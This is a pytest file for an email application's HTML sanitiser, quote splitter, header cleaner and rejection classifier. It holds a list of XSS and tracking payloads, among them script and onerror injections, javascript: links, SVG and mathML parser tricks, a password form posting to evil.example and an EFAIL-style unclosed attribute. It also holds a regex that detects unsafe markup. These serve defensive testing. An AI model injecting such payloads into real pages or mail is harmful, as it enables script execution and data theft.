"""Email HTML shown to people: nothing runs, nothing is fetched, links are marked."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nextround.mail.headers import clean_text, decode_value
from nextround.mail.quotes import split_quotes
from nextround.mail.sanitize import html_to_text, sanitize_html

VECTORS = [
    "<script>alert(1)</script><p>hi</p>",
    '<svg><script href="data:text/javascript,alert(1)"/></svg>',
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)><p>x</p></body>",
    '<a href="javascript:alert(1)">a</a>',
    '<a href="j&#x61vascript:alert(1)">b</a>',
    '<a href="vbscript:msgbox(1)">c</a>',
    '<a href="data:text/html,<script>alert(1)</script>">d</a>',
    '<base href="javascript:/a/-alert(1)///////"><a href="x">e</a>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<form action=https://evil.example><input name=password></form>",
    '<p style="background:url(https://t.example/p.gif)">css</p>',
    "<style>@import url(//evil.example/x.css);</style><p>y</p>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<img width=1 height=1 src="https://t.example/open?id=1">',
    '<video poster="https://t.example/p.jpg"></video><input type=image src="https://t.example/i">',
    '<svg><filter><feImage href="https://tracker.example/x"/></filter></svg>',
    '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
    "<svg><style><//><body onload=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>',
    '<img src="https://evil.example/?',  # EFAIL: an unclosed attribute in one part
]
# Markup that could run or fetch: such tags, event handlers, style and src attributes, and
# links to anything but http(s) or mail. (Escaped text such as "@import" is harmless.)
_UNSAFE = re.compile(
    r"<\s*(?:script|iframe|object|embed|base|meta|form|link|img|svg|style|input|video)\b"
    r"|\son\w+\s*=|\s(?:style|src|srcset|background|poster)\s*="
    r"|href\s*=\s*[\"']?\s*(?!https?:|mailto:)[a-z]+:",
    re.IGNORECASE,
)


@pytest.mark.parametrize("html", VECTORS)
def test_sanitised_html_has_nothing_that_runs_or_fetches(html: str) -> None:
    safe = sanitize_html(html).html
    assert not _UNSAFE.search(safe), safe


def test_links_are_kept_marked_and_remote_items_counted() -> None:
    safe = sanitize_html(
        '<p>Read <a href="https://acme.example/jobs">our jobs</a></p>'
        '<img src="https://t.example/p.gif" width=1 height=1>'
    )
    assert 'href="https://acme.example/jobs"' in safe.html
    assert 'rel="noopener noreferrer nofollow"' in safe.html and 'target="_blank"' in safe.html
    assert safe.blocked_remote >= 1


@pytest.mark.timeout(20)
def test_deep_nesting_finishes_quickly() -> None:
    html = "<div>" * 10_000 + "deep text" + "</div>" * 10_000
    started = time.perf_counter()
    assert "deep text" in html_to_text(html)
    assert "deep text" in sanitize_html(html).html
    assert time.perf_counter() - started < 5


def test_html_to_text_keeps_paragraphs_apart_and_drops_code() -> None:
    text = html_to_text(
        "<html><head><title>t</title><style>p{}</style></head><body><p>First.</p>"
        "<p>Second&nbsp;line.</p><script>var x=1</script><table><tr><td>A</td></tr>"
        "<tr><td>B</td></tr></table></body></html>"
    )
    lines = [ln for ln in text.splitlines() if ln]
    assert lines == ["First.", "Second line.", "A", "B"]


def test_french_reply_header_and_signature_are_set_aside() -> None:
    split = split_quotes(
        "Merci pour votre retour.\n\nCordialement,\nCamille\n-- \nCamille Roy\n06 00 00 00 00\n\n"
        "Le 3 mars 2025 à 10:00, Élise <elise@mosaic.example> a écrit :\n> Bonjour Camille"
    )
    assert split.body.startswith("Merci pour votre retour.") and "Camille Roy" not in split.body
    assert "Camille Roy" in split.signature and "Bonjour Camille" in split.quoted


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_header_text_never_keeps_line_breaks_or_controls(text: str) -> None:
    for value in (clean_text(text), decode_value(text, [], "Subject")):
        assert "\r" not in value and "\n" not in value
        assert not any(ord(ch) < 32 for ch in value)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            VECTORS
            + ["<p>", "</p>", "<a href='https://x.example'>", "</a>", "text", "<b>", '"', "'", ">"]
        ),
        max_size=12,
    )
)
def test_sanitiser_is_safe_on_any_mix_of_vectors(parts: list[str]) -> None:
    assert not _UNSAFE.search(sanitize_html("".join(parts)).html)


def test_html_blocks_stay_separate_sentences_for_the_classifier() -> None:
    from nextround.domain.classify import classify_email
    from nextround.domain.emails import InboundEmail
    from nextround.mail.parse import parse_bytes

    raw = (
        b"From: Acme Careers <jobs@acme.example>\nSubject: Your application\n"
        b"Content-Type: text/html; charset=utf-8\n\n"
        b"<div>Hi Sam,</div><div>If you have any questions about your application, write to us"
        b"</div><div>We have decided not to move forward with your application</div>"
        b"<div>The Acme team</div>"
    )
    message = parse_bytes(raw)
    assert isinstance(message, InboundEmail)
    assert classify_email(message).label.value == "rejection"
